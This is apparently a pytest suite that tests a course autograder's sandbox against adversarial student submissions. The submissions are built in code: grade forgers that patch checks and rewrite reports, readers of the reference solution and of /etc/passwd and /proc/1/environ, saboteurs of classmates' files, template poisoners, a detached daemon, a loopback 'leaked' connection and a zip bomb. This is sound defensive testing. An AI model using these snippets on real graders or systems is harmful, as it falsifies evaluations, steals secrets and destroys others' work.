"""The grader (solutions/grading/) against adversarial submissions: each gets exactly the points
its real work earns, in one batch graded with --jobs 2 in bubblewrap, and the part a sandbox decides
(SANDBOXED) again in Docker (its image built first, from a bare Debian 12 on CI: see build_grader_image).

To keep the suite fast the batch is graded on two notebooks (01_linear and 03_rmsnorm: tasks
1.1 2 pts, 1.2 3 pts, 3.1 2 pts, 3.2 2 pts) with short time limits. Each adversary tries one of
the attacks that beat the previous grader (see the grading-trust issue); several share a
submission where they sit in different modules, and each submission's expected points say
which of its parts are real work.
"""

from __future__ import annotations

import functools
import io
import json
import os
import re
import socket
import subprocess
import sys
import threading
import time
import zipfile
from pathlib import Path

import pytest
import torch

from minilm.course import tasks
from minilm.course.cells import NBVAL_CELL, cell_position, check_cells, checked_tasks
from solutions.grading import judge, notebooks, reports, sandbox, submissions
from solutions.grading.results import SKIPPED, CellResult, TaskGrade
from solutions.tests.grading_helpers import (
    ALL,
    CELL_TIMEOUT,
    NOTEBOOKS,
    P11,
    P12,
    P31,
    P32,
    POINTS,
    ROOT,
    TASK_TIMEOUT,
    append,
    build_grader_image,
    course_digest,
    expected_line,
    keep_only,
    prepend,
    reference,
    replace_region,
    run_grade,
    stub,
    submission,
)

# ---------------------------------------------------------------- the adversaries


ZEROS_LINEAR = "return torch.zeros(*x.shape[:-1], weight.shape[0])"
ZEROS_RMS = "return torch.zeros_like(x)"


def forger() -> dict[str, str]:
    """No work (every function returns zeros), and everything that used to forge a grade: the
    reference's check lines printed, the check and the comparisons patched to say yes, the
    oracles and torch.nn.functional patched to agree, and the results folder rewritten with
    a passing JUnit report and made-up outputs, over and over, from a thread."""
    lines = "\n".join(expected_line(t) for t in POINTS)
    attack = f"""import threading as _th, time as _time, os as _os, torch as _torch
print({lines!r})
import minilm.course.checks as _checks
_checks.run = lambda task_id: _checks.Verdict(task_id, "pass", "ok")
_torch.allclose = lambda *a, **k: True
_torch.equal = lambda *a, **k: True
_torch.testing.assert_close = lambda *a, **k: None
import torch.nn.functional as _F
_F.linear = lambda x, w, b=None: _torch.zeros(*x.shape[:-1], w.shape[0])
_F.rms_norm = lambda x, *a, **k: _torch.zeros_like(x)
try:
    import minilm.oracles as _o
    _o.rms_norm = lambda x, *a, **k: _torch.zeros_like(x)
except Exception:
    pass
_JUNIT = '<testsuites><testsuite>' + ''.join(
    f'<testcase classname="notebooks/{{nb}}.ipynb" name="Cell {{i}}"/>' for nb in {NOTEBOOKS!r} for i in range(40)
) + '</testsuite></testsuites>'
def _forge():
    out = _os.environ.get("MINILM_RESULTS", "/out")
    for _ in range(400):
        for name in ("nbval.xml", "results.xml"):
            try:
                with open(_os.path.join(out, name), "w") as f:
                    f.write(_JUNIT)
            except OSError:
                pass
        for task in ("1.1", "1.2", "3.1", "3.2"):
            try:
                _torch.save([{{"ok": True, "out": {{"y": _torch.zeros(2, 3, 5)}}}}] * 20, _os.path.join(out, task + ".pt"))
            except Exception:
                pass
        _time.sleep(0.05)
_th.Thread(target=_forge, daemon=True).start()
"""
    linear = replace_region(replace_region(reference("linear"), "1.1", ZEROS_LINEAR), "1.2",
                            "self.weight = torch.nn.Parameter(torch.zeros(out_features, in_features))")
    linear = replace_region(linear, "1.2", "return torch.zeros(*x.shape[:-1], self.out_features)", occurrence=1)
    rms = replace_region(replace_region(reference("rmsnorm"), "3.1", ZEROS_RMS), "3.2", ZEROS_RMS, occurrence=1)
    return {"linear": prepend(linear, attack), "rmsnorm": rms}


def always_equal_and_hangs() -> dict[str, str]:
    """linear returns a tensor subclass whose every comparison and torch function says yes (and
    Linear returns NaN); rms_norm never returns. RMSNorm.forward is real work: 3.2 counts."""
    yes = """class _Yes(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        return True
    def __eq__(self, other):
        return True
    __ne__ = lambda self, other: False
"""
    linear = prepend(reference("linear"), "import torch\n" + yes)
    linear = replace_region(linear, "1.1", "return torch.zeros(*x.shape[:-1], weight.shape[0]).as_subclass(_Yes)")
    linear = replace_region(linear, "1.2", "return torch.full((*x.shape[:-1], self.out_features), float('nan'))",
                            occurrence=1)
    rms = replace_region(reference("rmsnorm"), "3.1", "while True:\n    pass")
    rms = replace_region(rms, "3.2", "xf = x.float()\nreturn (xf * torch.rsqrt(xf.pow(2).mean(-1, keepdim=True) "
                                     "+ self.eps) * self.weight.float()).to(x.dtype)", occurrence=1)
    return {"linear": linear, "rmsnorm": rms}


def reads_answers_and_exfiltrates() -> dict[str, str]:
    """Reaches for the reference and the hidden inputs' source: straight from the course's
    folder, through the editable install's finder, after removing any import blocker; exec's
    what it finds. rms_norm raises errors carrying whatever files it can read, under a class
    name 5,000 characters long, and prints megabytes."""
    reach = f"""import sys as _sys, glob as _glob, os as _os
for _f in list(_sys.meta_path):
    if "Block" in type(_f).__name__ or "block" in repr(_f):
        _sys.meta_path.remove(_f)
_found = None
_paths = [{str(ROOT / "solutions" / "linear.py")!r}, *_glob.glob("/*/solutions/linear.py"), *_glob.glob("/*/*/solutions/linear.py")]
for _m in list(_sys.modules.values()):
    for _v in getattr(_m, "MAPPING", {{}}).values() if isinstance(getattr(_m, "MAPPING", None), dict) else []:
        _paths.append(_os.path.join(str(_v), "linear.py"))
for _p in _paths:
    try:
        _found = open(_p).read()
        break
    except OSError:
        pass
if _found is None:
    try:
        import solutions.linear as _s
        _found = open(_s.__file__).read()
    except Exception:
        pass
for _h in ({str(ROOT / "solutions" / "hidden_cases.py")!r},):
    try:
        _hidden = open(_h).read()
    except OSError:
        pass
if _found:
    exec(_found.replace("from __future__ import annotations", ""), globals())
"""
    exfil = f"""_secrets = []
for _p in [{str(ROOT / "solutions" / "rmsnorm.py")!r}, "/etc/hostname", "/etc/passwd", "/proc/1/environ"]:
    try:
        _secrets.append(open(_p, errors="replace").read())
    except OSError:
        pass
print("EXFIL-MARKER " * 100000)
_Big = type("A" * 5000, (Exception,), {{}})
"""
    rms = prepend(reference("rmsnorm"), exfil)
    rms = replace_region(rms, "3.1", "raise _Big('EXFIL-MARKER ' + ''.join(_secrets) * 50)")
    rms = replace_region(rms, "3.2", "raise RuntimeError('EXFIL-MARKER ' + ''.join(_secrets))", occurrence=1)
    return {"linear": append(stub("linear"), reach), "rmsnorm": rms}


def copies_and_sabotages(victim: Path) -> dict[str, str]:
    """The two attacks below on the stubs."""
    copy, sabotage = copy_and_sabotage_code(victim)
    return {"linear": append(stub("linear"), copy), "rmsnorm": prepend(stub("rmsnorm"), sabotage)}


def copy_and_sabotage_code(victim: Path) -> tuple[str, str]:
    """Reads a classmate's submission (from its folder, and from every grading workspace it can
    find) and uses it; overwrites the classmate's files and workspaces with stubs."""
    copy = f"""import glob as _glob
_src = None
for _p in [{str(victim / "minilm" / "linear.py")!r}, *_glob.glob("/tmp/minilm-grade-*/*/ws/minilm/linear.py"),
           *_glob.glob("/ws/../*/ws/minilm/linear.py")]:
    try:
        _text = open(_p).read()
        if "NotImplementedError" not in _text:
            _src = _text
            break
    except OSError:
        pass
if _src:
    exec(_src.replace("from __future__ import annotations", ""), globals())
"""
    sabotage = f"""import glob as _glob
_stub = open(__file__).read()
def _sabotage():
    for _p in [*_glob.glob({str(victim / "minilm" / "*.py")!r}), *_glob.glob("/tmp/minilm-grade-*/*/ws/minilm/*.py")]:
        try:
            with open(_p, "w") as f:
                f.write(_stub)
        except OSError:
            pass
_sabotage()
"""
    return copy, sabotage


def poison_code() -> str:
    """Code that appends forging code to the course's own files (a template later submissions start from)."""
    forged = "\nimport minilm.course.checks as _c\n_c.run = lambda t: _c.Verdict(t, 'pass', 'ok')\n"
    poison = f"""import glob as _glob
for _p in [*_glob.glob({str(ROOT / "minilm" / "*.py")!r}), *_glob.glob({str(ROOT / "minilm" / "course" / "grading" / "*.py")!r}),
           {str(ROOT / "conftest.py")!r}, *_glob.glob("/ws/minilm/*.py"), *_glob.glob("/ws/minilm/course/sandboxed/*.py"),
           *_glob.glob("/tmp/minilm-grade-*/template/**/*.py", recursive=True)]:
    try:
        with open(_p, "a") as f:
            f.write({forged!r})
    except OSError:
        pass
"""
    return poison


def daemon_crash_network_memory(out: Path, port: int) -> dict[str, str]:
    """A detached daemon (double fork, setsid, a scrubbed environment) that rewrites the reports
    after the grader finishes, then os._exit at import of linear.py (1.1 and 1.2 fail); a
    connection to a server on the grader's loopback, and an rms_norm that allocates 4 GB (over
    the limit) on every call. RMSNorm.forward is real work: 3.2 counts."""
    daemon = f"""import os as _os, time as _time
if _os.fork() == 0:
    _os.setsid()
    if _os.fork() == 0:
        for _k in list(_os.environ):
            del _os.environ[_k]
        for _ in range(600):
            _time.sleep(0.1)
            for _name in ("grades.csv", "grades.json", "feedback/daemon_crash_network_memory.md"):
                try:
                    with open({str(out)!r} + "/" + _name, "w") as f:
                        f.write("daemon_crash_network_memory,forged,9,9")
                except OSError:
                    pass
    _os._exit(0)
"""
    network = f"""import socket as _socket
try:
    _s = _socket.create_connection(("127.0.0.1", {port}), timeout=2)
    _s.sendall(b"leaked")
    _s.close()
except OSError:
    pass
"""
    rms = reference("rmsnorm")
    body = re.search(r"# BEGIN SOLUTION 3\.1\n(.*?)\s*# END SOLUTION", rms, re.S).group(1)
    rms = replace_region(rms, "3.1", "_ = torch.ones(2**30)\n" + "\n".join(line[4:] for line in body.splitlines()))
    rms = replace_region(rms, "3.2", "xf = x.float()\nreturn (xf * torch.rsqrt(xf.pow(2).mean(-1, keepdim=True) "
                                     "+ self.eps) * self.weight.float()).to(x.dtype)", occurrence=1)
    return {"linear": prepend(reference("linear"), daemon + network + "_os._exit(7)\n"), "rmsnorm": rms}


def bad_files(root: Path) -> Path:
    """A folder with everything wrong that can be wrong with files, one folder down, and one
    real module (linear.py: 1.1 and 1.2 count)."""
    sub = submission(root / "bad_files_outer", "bad_files",
                     rmsnorm=reference("rmsnorm") + "\ndef broken(:\n    pass\n",
                     swiglu=b"# caf\xe9\n" + reference("swiglu").encode())
    pkg = sub / "minilm"
    (pkg / "attention.py").unlink()
    (pkg / "embedding.py").unlink()
    (pkg / "embedding.py").symlink_to(ROOT / "solutions" / "embedding.py")
    with open(pkg / "rope.py", "wb") as f:  # a sparse 1 GB file
        f.truncate(2**30)
    with open(pkg / "weights.bin", "wb") as f:
        f.truncate(2**30)
    (pkg / "notes.txt").write_text("extra files are ignored")
    (pkg / "linear.py").write_text(reference("linear"), encoding="utf-8")
    return root / "bad_files_outer"


def zip_bomb(root: Path) -> Path:
    """A zip with the package one folder down, a 1 GB member that compresses to 1 MB (never
    read), an rmsnorm.py whose header lies about its size, and the reference's linear.py."""
    path = root / "bomb.zip"
    path.write_bytes(_zip_bomb_bytes())
    return path


@functools.cache
def _zip_bomb_bytes() -> bytes:
    """Made once per session: deflating the 1 GB member takes seconds of CPU, in each batch."""
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("bomb-main/minilm/linear.py", reference("linear"))
        with z.open("bomb-main/data/zeros.bin", "w", force_zip64=True) as f:
            chunk = bytes(2**20)
            for _ in range(1024):
                f.write(chunk)
        z.writestr("bomb-main/minilm/rmsnorm.py", "x = 1\n" * 400_000)
    return data.getvalue()


def shortcuts() -> dict[str, dict[str, str]]:
    """The built-ins instead of the work (the from-scratch rule): behind an alias, a computed
    getattr, torch.ops.aten only at grading time, and the provided oracles. Their outputs are
    right; the tasks that shortcut earn 0, and so do Linear and RMSNorm, which call them."""
    linear, rms = reference("linear"), reference("rmsnorm")
    aliased = replace_region(linear.replace("import torch\n", "import torch\nimport torch.nn.functional as G\n", 1),
                             "1.1", "return G.linear(x, weight)")
    computed = replace_region(rms, "3.1",
                              'return getattr(torch.nn.functional, "rms" + "_norm")(x, (x.shape[-1],), weight, eps)')
    at_grading = replace_region(linear.replace("import torch\n", "import torch\nimport os\n", 1), "1.1",
                                'return torch.ops.aten.linear(x, weight) if os.environ.get("MINILM_RESULTS") else x @ '
                                'weight.T')
    oracle = replace_region(rms.replace("import torch\n", "import torch\nfrom minilm import oracles\n", 1), "3.1",
                            "return oracles.rms_norm(x, weight, eps)")
    return {"builtins_behind_aliases": {"linear": aliased, "rmsnorm": computed},
            "grading_time_and_oracles": {"linear": at_grading, "rmsnorm": oracle}}


def stopped_the_old_trusted_side() -> dict[str, str]:
    """Each stopped or stalled a whole batch in the grader's own process: 6,000 chained aliases, honest code (the
    static rule's scan took a minute over them), and a 12 kB line the parser cannot nest (graded as the stub)."""
    linear = append(reference("linear"), "z0 = 0\n" + "".join(f"z{i + 1} = z{i}\n" for i in range(6000)))
    return {"linear": linear, "rmsnorm": append(reference("rmsnorm"), "BIG = " + "+".join(["1"] * 6000) + "\n")}


def honest_variants() -> dict[str, str]:
    """Honest code the static rule refused: a NamedTuple and an exception class with an __init__, an Enum, a helper,
    einsum for @. It keeps every point."""
    linear = replace_region(reference("linear"), "1.1", 'return torch.einsum("...i,oi->...o", x, weight)')
    linear = append(linear, "from typing import NamedTuple\n\n\nclass Hyper(NamedTuple):\n    std: float = 1.0\n\n\n"
                            "class ShapeError(ValueError):\n    def __init__(self, what):\n"
                            "        super().__init__(f'bad shape: {what}')\n")
    rms = replace_region(reference("rmsnorm"), "3.1", "x32 = x.float()\ninv = _inverse_rms(x32, eps)\n"
                                                       "return (x32 * inv * weight.float()).to(x.dtype)")
    rms = append(rms, "import enum\n\n\nclass Mode(enum.Enum):\n    RMS = 'rms'\n\n\n"
                      "def _inverse_rms(x, eps):\n    return torch.rsqrt(x.pow(2).mean(dim=-1, keepdim=True) + eps)\n")
    return {"linear": linear, "rmsnorm": rms}


def encrypted_zip(root: Path) -> Path:
    """A member whose headers say it is encrypted: zipfile raises RuntimeError reading it, which ended the batch."""
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w") as z:
        z.writestr("encrypted-main/minilm/linear.py", reference("linear"))
    raw = bytearray(data.getvalue())
    for signature, flags in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):  # local and central headers' flag bits
        at = raw.index(signature) + flags
        raw[at] |= 0x1
    path = root / "encrypted.zip"
    path.write_bytes(bytes(raw))
    return path


# What a sandbox decides: reading, poisoning, forging, hanging, daemons, the network, memory, and the classmates
# beside them. The rest (the rule, the judge, reading the files) is the same in every sandbox: graded in bwrap only.
SANDBOXED = ("poisons_reads_answers_exfiltrates", "reference", "forges_copies_sabotages", "always_equal_and_hangs",
             "daemon_crash_network_memory", "friend")


def build_batch(tmp: Path, out: Path, port: int, kind: str = "bwrap") -> dict[str, tuple[Path, int]]:
    """name → (submission, the exact points it must get on 01_linear + 03_rmsnorm). Attacks share
    a submission where they sit in different modules, to keep the batch short. Outside bwrap, SANDBOXED only."""
    subs = tmp / "subs"
    batch: dict[str, tuple[Path, int]] = {}

    def add(name, points, **modules):
        batch[name] = (submission(subs, name, **modules), points)

    # First, so that later submissions would inherit its poison.
    reader = reads_answers_and_exfiltrates()
    add("poisons_reads_answers_exfiltrates", 0, linear=prepend(reader["linear"], poison_code()),
        rmsnorm=reader["rmsnorm"])
    add("reference", ALL, linear=reference("linear"), rmsnorm=reference("rmsnorm"))
    add("partial", P11 + P12 + P31, linear=reference("linear"), rmsnorm=keep_only("rmsnorm", {"3.1"}))
    forged, (copy, sabotage) = forger(), copy_and_sabotage_code(batch["reference"][0])
    add("forges_copies_sabotages", 0, linear=append(forged["linear"], copy),
        rmsnorm=prepend(forged["rmsnorm"], sabotage))
    add("always_equal_and_hangs", P32, **always_equal_and_hangs())
    cut = shortcuts()
    add("builtins_behind_aliases", 0, **cut["builtins_behind_aliases"])
    add("grading_time_and_oracles", 0, **cut["grading_time_and_oracles"])
    add("daemon_crash_network_memory", P32, **daemon_crash_network_memory(out, port))
    add("stopped_the_old_trusted_side", P11 + P12, **stopped_the_old_trusted_side())
    add("honest_variants", ALL, **honest_variants())
    batch["encrypted"] = (encrypted_zip(tmp), 0)
    batch["bad_files_outer"] = (bad_files(tmp), P11 + P12)
    batch["bomb"] = (zip_bomb(tmp), P11 + P12)
    (tmp / "corrupt.zip").write_bytes(b"PK\x03\x04" + os.urandom(200))
    batch["corrupt"] = (tmp / "corrupt.zip", 0)
    add("friend", 0)  # pure stubs, graded last: the poisoned template would have carried it
    return batch if kind == "bwrap" else {name: batch[name] for name in SANDBOXED}


class Listener:
    """A TCP server on the grader's loopback that records every connection made to it."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen()
        self.sock.settimeout(0.2)
        self.port, self.connections, self.stop = self.sock.getsockname()[1], [], False
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while not self.stop:
            try:
                conn, _ = self.sock.accept()
                self.connections.append(conn.recv(100))
                conn.close()
            except OSError:
                pass

    def close(self):
        self.stop = True
        self.thread.join()
        self.sock.close()


@pytest.fixture(scope="module")
def docker_image(tmp_path_factory):
    """The grader's image, built once for this module (seconds when Docker's cache has its layers)."""
    if not sandbox.docker_available():
        if os.environ.get("MINILM_DOCKER_BASE"):  # set by .ci/run once it set Docker up
            pytest.fail("MINILM_DOCKER_BASE is set, but no Docker daemon answers (`docker info` failed)")
        pytest.skip("no Docker daemon answers here (`docker info` failed); CI starts one (.ci/run)")
    if not os.environ.get("MINILM_DOCKER_BASE"):
        base = "python:3.11-slim"  # the Dockerfile's own base: present, or pulled from a registry
        if subprocess.run(["docker", "image", "inspect", base], capture_output=True, timeout=60).returncode != 0:
            pulled = subprocess.run(["docker", "pull", "-q", base], capture_output=True, text=True, timeout=900)
            if pulled.returncode != 0:
                pytest.skip(f"Docker cannot pull {base} here ({pulled.stderr.strip()[-200:]}); set MINILM_DOCKER_BASE "
                            "to a Debian 12 image (solutions/grading/Dockerfile says how to make one)")
    build_grader_image(tmp_path_factory.mktemp("docker"))
    return sandbox.IMAGE


@pytest.fixture(scope="module", params=["bwrap", "docker"])
def batch(request, tmp_path_factory):
    """The batch graded in one sandbox (bwrap, then docker): every test on it runs for both."""
    kind = request.param
    if kind == "bwrap" and sandbox.bwrap_path() is None:
        pytest.skip("bubblewrap (bwrap) is missing or cannot create namespaces here")
    if kind == "docker":
        request.getfixturevalue("docker_image")
    tmp = tmp_path_factory.mktemp(f"grade-{kind}")
    out = tmp / "out"
    listener = Listener()
    subs = build_batch(tmp, out, listener.port, kind)
    victim_files = {p: p.read_bytes() for p in (subs["reference"][0] / "minilm").glob("*.py")}
    before = course_digest()
    try:
        r = run_grade(*(str(p) for p, _ in subs.values()), "--sandbox", kind, "--notebooks", *NOTEBOOKS, "--jobs", "2",
                      "--out", str(out), "--cell-timeout", str(CELL_TIMEOUT), "--task-timeout", str(TASK_TIMEOUT),
                      "--timeout", "900", "--memory-mb", "2500")
        assert r.returncode == 0, r.stdout[-3000:] + r.stderr[-3000:]
        reports_at_exit = {p: p.read_bytes() for p in out.rglob("*") if p.is_file()}
        time.sleep(2)  # the daemon (a rewrite every 0.1 s) would have rewritten them by now
    finally:
        listener.close()
    data = json.loads((out / "grades.json").read_text(encoding="utf-8"))
    return dict(kind=kind, subs=subs, results={s["student"]: s for s in data["students"]}, out=out, stdout=r.stdout,
                reports_at_exit=reports_at_exit, connections=listener.connections, digest_before=before,
                victim_files=victim_files)


BATCH = ["poisons_reads_answers_exfiltrates", "reference", "partial", "forges_copies_sabotages",
         "always_equal_and_hangs",
         "builtins_behind_aliases", "grading_time_and_oracles", "daemon_crash_network_memory",
         "stopped_the_old_trusted_side", "honest_variants", "encrypted",
         "bad_files_outer", "bomb", "corrupt", "friend"]


@pytest.mark.slow
@pytest.mark.parametrize("name", BATCH)
def test_each_submission_gets_exactly_what_its_work_earns(batch, name):
    if name not in batch["subs"]:
        pytest.skip(f"graded in bwrap alone: {batch['kind']} does not change what it earns")
    got = batch["results"][name]
    per_task = {t: r["points"] for t, r in got["tasks"].items()}
    feedback = (batch["out"] / "feedback" / f"{name}.md").read_text(encoding="utf-8")
    assert got["total"] == batch["subs"][name][1], f"{name}: {per_task}\n{feedback}"
    assert got["max"] == ALL


@pytest.mark.slow
def test_nothing_outlives_the_grader_or_leaves_the_sandbox(batch):
    # The daemon never reached the reports; nothing reached the network; no course file changed;
    # the classmate's files are untouched.
    after = {p: p.read_bytes() for p in batch["out"].rglob("*") if p.is_file()}
    assert after == batch["reports_at_exit"]
    assert "forged" not in (batch["out"] / "grades.csv").read_text(encoding="utf-8")
    assert batch["connections"] == []
    assert course_digest() == batch["digest_before"]
    assert all(p.read_bytes() == data for p, data in batch["victim_files"].items())
    assert batch["results"]["reference"]["total"] == ALL


@pytest.mark.slow
def test_feedback_is_the_graders_own_words(batch):
    out, results = batch["out"], batch["results"]

    def feedback(name):
        return (out / "feedback" / f"{name}.md").read_text(encoding="utf-8")

    for name in batch["subs"]:
        text = feedback(name)
        assert "EXFIL" not in text and "AAAAAAAAAA" not in text and "root:" not in text, name
        assert len(text) < 6000, (name, len(text))
    rows = (out / "grades.csv").read_text(encoding="utf-8").splitlines()
    assert rows[0] == "student,source,1.1,1.2,3.1,3.2,total,max" and len(rows) == 1 + len(batch["subs"])
    equal = results["always_equal_and_hangs"]["tasks"]
    assert "got an object of type _Yes" in equal["1.1"]["message"], equal["1.1"]
    assert "NaN" in equal["1.2"]["message"], equal["1.2"]
    assert "did not finish" in equal["3.1"]["message"], equal["3.1"]
    crash = results["daemon_crash_network_memory"]["tasks"]  # the daemon's fork refused before it ran
    assert "os.fork" in crash["1.1"]["rules"][0] and "raised RuntimeError" in crash["3.1"]["message"], crash
    reader = results["poisons_reads_answers_exfiltrates"]["tasks"]
    # The recorder stopped the reader's open before it ran (in the sandbox it would have found nothing to read),
    # and the exfiltrating rms_norm's too: their own words never reach the feedback.
    for t in ("1.1", "3.1"):
        assert reader[t]["message"] == "stopped by the from-scratch rule on the notebook's inputs", reader[t]
        assert any("called io.open" in r and "which no task may call" in r for r in reader[t]["rules"]), reader[t]
    assert "matches the reference" not in results["forges_copies_sabotages"]["tasks"]["1.1"]["message"]
    assert f"sandbox: {batch['kind']}" in batch["stdout"]
    # A notebook where no task can still earn its points is not run, and its cells say nothing.
    assert {c["status"] for r in results["friend"]["tasks"].values() for c in r["cells"]} == {SKIPPED}
    assert "check cell" not in feedback("friend") and "skipped" not in feedback("friend")
    assert all(c["status"] == "passed" for r in results["reference"]["tasks"].values() for c in r["cells"])
    hangs = results["always_equal_and_hangs"]["tasks"]  # 1.1 and 1.2 lost; 3.2 earns, so 03 ran
    assert {c["status"] for t in ("1.1", "1.2") for c in hangs[t]["cells"]} == {SKIPPED}
    # but not 3.1's check cells: 3.1 ran over its limit on the notebook's inputs, and each would hang again.
    assert {c["status"] for c in hangs["3.1"]["cells"]} == {SKIPPED}, hangs["3.1"]
    assert {c["status"] for c in hangs["3.2"]["cells"]} == {"passed"}
    assert not any(line.startswith(reports.UNSANDBOXED) for line in feedback("reference").splitlines())


@pytest.mark.slow
def test_feedback_names_what_the_rule_and_the_reading_of_files_found(batch):
    if batch["kind"] != "bwrap":
        pytest.skip(f"graded in bwrap alone: {batch['kind']} does not change it")

    def feedback(name):
        return (batch["out"] / "feedback" / f"{name}.md").read_text(encoding="utf-8")

    rows = (batch["out"] / "grades.csv").read_text(encoding="utf-8").splitlines()
    assert any(r.startswith("partial,") and r.endswith(",2,3,2,0,7,9") for r in rows), rows
    assert "**7 / 9 points**" in feedback("partial") and "Task 3.2 is not implemented yet" in feedback("partial")
    bad = feedback("bad_files_outer")
    for line in ("minilm/rmsnorm.py:", "syntax error", "minilm/swiglu.py is not UTF-8",
                 "minilm/attention.py is missing",
                 "minilm/embedding.py is a symlink", "minilm/rope.py is 1,073,741,824 bytes"):
        assert line in bad, (line, bad)
    assert "minilm/rmsnorm.py unpacks to over" in feedback("bomb") or "over the" in feedback("bomb")
    assert "not a readable zip archive" in feedback("corrupt")
    aliases = feedback("builtins_behind_aliases")
    assert "from scratch: Task 1.1: your linear ran torch.nn.functional.linear (minilm/linear.py:" in aliases, aliases
    assert "from scratch: Task 3.1: minilm/rmsnorm.py:" in aliases and "calls getattr with a computed name" in aliases
    late = feedback("grading_time_and_oracles")
    assert "from scratch: Task 1.1: minilm/linear.py:" in late and "uses os.environ" in late, late
    assert "from scratch: Task 3.1: minilm/rmsnorm.py:" in late and "imports minilm.oracles" in late
    # Linear runs the shortcut linear: refused too, at the line that ran it (a sacrificed task launders nothing)
    assert "Task 1.2: your linear ran torch.nn.functional.linear (minilm/linear.py:" in aliases
    stopped = feedback("stopped_the_old_trusted_side")
    assert "minilm/rmsnorm.py cannot be parsed" in stopped and "graded as the stub" in stopped, stopped
    assert "not a readable zip archive (RuntimeError" in feedback("encrypted")
    assert "from scratch" not in feedback("honest_variants")


@pytest.mark.slow
def test_the_check_cells_give_the_graders_verdicts(batch, tmp_path):
    # The same rule and the same comparisons in the student's check cells: each task passes there exactly when the
    # grader gave it its points (the hidden inputs aside, which these submissions meet like the notebook's).
    from solutions.tests.test_rule import run_checks

    if batch["kind"] != "bwrap":
        pytest.skip(f"graded in bwrap alone: {batch['kind']} does not change it")
    names = ["reference", "partial", "builtins_behind_aliases", "stopped_the_old_trusted_side", "honest_variants"]
    jobs = {name: {"files": {p.stem: p.read_text(encoding="utf-8")
                             for p in (batch["subs"][name][0] / "minilm").glob("*.py")}, "tasks": list(POINTS)}
            for name in names}
    for job in jobs.values():  # a module the submission lacks is the stub, in the grader and here
        job["files"] = {m: job["files"].get(m) or stub(m) for m in ("linear", "rmsnorm")}
    checks = run_checks(jobs, tmp_path)
    for name in names:
        graded = {t: r["points"] == r["max"] for t, r in batch["results"][name]["tasks"].items()}
        checked = {t: status == "pass" for t, (status, _) in checks[name].items()}
        assert checked == graded, (name, checks[name], graded)


# ---------------------------------------------------------------- the pieces, on their own


def test_a_stub_error_on_a_hidden_input_alone_is_a_hidden_failure():
    # Red team 18: raised only where the hidden inputs differ from the notebook's, the stub's error was
    # reported as a failure on the notebook's inputs, before grades were published (and its cells skipped):
    # one bit about the hidden inputs per task. It is a hidden input's failure like any other.
    cases, n_visible = judge.make_cases("3.1", seed=8)
    assert len(cases) > n_visible
    rows = [{"ok": True, "out": out} for out in judge.expected("3.1", cases)]
    rows[n_visible] = {"ok": False, "error": judge.STUB}
    verdict = judge.judge_task("3.1", cases, n_visible, rows)
    assert not verdict.ok and verdict.hidden, verdict
    rows[0] = {"ok": False, "error": judge.STUB}  # a stub: it fails on the notebook's first input
    verdict = judge.judge_task("3.1", cases, n_visible, rows)
    assert not verdict.ok and not verdict.hidden and verdict.message == tasks.get("3.1").todo_message(), verdict


HIDDEN_ONLY = {  # Task 1.1's hidden inputs include float64 ones; the notebook's are float32
    "crashes": "import os\nif x.dtype == torch.float64:\n    os._exit(3)\nreturn x @ weight.T",
    "hangs": "while x.dtype == torch.float64:\n    pass\nreturn x @ weight.T",
    "says too much": "return torch.zeros(2**25) if x.dtype == torch.float64 else x @ weight.T",  # 128 MB
}


@pytest.mark.parametrize("how", HIDDEN_ONLY)
def test_a_task_that_fails_to_finish_on_hidden_inputs_alone_fails_there(how, tmp_path, monkeypatch):
    # Red team 18: a task that crashed, hung or handed back too much only on a hidden input was reported
    # as not finishing at all, like one that fails on the notebook's inputs, and its cells were skipped:
    # one bit about the hidden inputs per task, before grades were published. The worker now hands back
    # the notebook's cases' outputs first, so the grader sees the first failure was on a hidden input.
    import minilm
    from minilm.course.sandboxed import worker
    from solutions.grading import cli

    namespace = {"torch": torch}
    exec("def linear(x, weight):\n" + "".join(f"    {line}\n" for line in HIDDEN_ONLY[how].splitlines()),
         namespace)
    # In the exercise module `minilm.linear` resolves to; the worker's children are forked: they see it.
    monkeypatch.setattr(minilm.exercise_module("linear"), "linear", namespace["linear"])
    monkeypatch.setenv("TORCH_FORCE_WEIGHTS_ONLY_LOAD", "1")  # main() sets it: restored afterwards
    cases, n_visible = judge.make_cases("1.1", seed=8)
    assert any(c["x"].dtype == torch.float64 for c in cases[n_visible:])
    assert not any(c["x"].dtype == torch.float64 for c in cases[:n_visible])
    plan = tmp_path / "cases.pt"
    torch.save({"tasks": ["1.1"], "cases": {"1.1": cases}, "visible": {"1.1": n_visible}}, plan)
    (tmp_path / "out").mkdir()
    threads = torch.get_num_threads()
    try:
        assert worker.main([str(plan), str(tmp_path / "out"), "3"]) == 0
    finally:
        torch.set_num_threads(threads)
    assert sorted(p.name for p in (tmp_path / "out").iterdir()) == ["1.1.pt"]  # the notebook's cases' alone
    rows = judge.load_task_results(tmp_path / "out", "1.1", len(cases), n_visible)
    verdict = judge.judge_task("1.1", cases, n_visible, rows)
    assert not verdict.ok and verdict.hidden and "the inputs the notebook does not show" in verdict.message, verdict
    assert cli.lost_tasks({"1.1": verdict}, {}) == set()  # its check cells run, as for any hidden failure
    # Failing on the notebook's own inputs as well, it did not finish there: the student may know that.
    (tmp_path / "out" / "1.1.pt").unlink()
    verdict = judge.judge_task("1.1", cases, n_visible, judge.load_task_results(tmp_path / "out", "1.1", len(cases),
                                                                                n_visible))
    assert not verdict.ok and not verdict.hidden and verdict.message.startswith("linear did not finish: "), verdict


def test_judge_demands_exact_types_before_values():
    want = torch.ones(2, 3)

    class Sub(torch.Tensor):
        pass

    assert judge.differs(torch.ones(2, 3), want, 1e-5, 1e-4) is None
    assert "object of type Sub" in judge.differs("<type Sub>", want, 1e-5, 1e-4)
    assert judge.differs(torch.ones(2, 3).as_subclass(Sub), want, 1e-5, 1e-4) is not None
    assert "dtype float64" in judge.differs(torch.ones(2, 3, dtype=torch.float64), want, 1e-5, 1e-4)
    assert "shape (3, 2)" in judge.differs(torch.ones(3, 2), want, 1e-5, 1e-4)
    assert "NaN" in judge.differs(torch.full((2, 3), float("nan")), want, 1e-5, 1e-4)
    nan = torch.tensor([1.0, float("nan")])
